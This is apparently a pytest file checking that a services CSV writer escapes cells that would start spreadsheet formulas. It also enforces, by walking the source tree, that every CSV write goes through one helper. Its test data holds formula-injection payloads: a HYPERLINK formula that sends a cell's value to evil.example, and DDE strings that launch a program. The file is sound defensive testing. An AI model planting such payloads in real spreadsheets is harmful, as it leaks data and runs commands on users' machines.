"""Issue 17, section 6: no cell of a CSV the services write starts a formula."""

import ast
import csv
import io
from pathlib import Path

import pytest

from services.common.spreadsheets import cell, writer

SERVICES = Path(__file__).resolve().parents[3] / "services"
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&B2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(text):
    out = io.StringIO()
    writer(out).writerow([text, "Amina", 7])
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["'" + text, "Amina", "7"]


@pytest.mark.parametrize("text", ["Amina Canary", "Org = Us", "", "'=already text", "3 + 4"])
def test_other_cells_are_written_as_they_are(text):
    assert cell(text) == text
    assert cell(None) == ""


def test_every_csv_the_services_write_goes_through_the_helper():
    """`csv.writer` and `csv.DictWriter` are called in services/common/spreadsheets.py only."""
    found = []
    for path in SERVICES.rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "common":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(f"{path.relative_to(SERVICES)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                names = {alias.name for alias in node.names}
                if names & {"writer", "DictWriter"}:
                    found.append(f"{path.relative_to(SERVICES)}:{node.lineno}")
    assert found == []
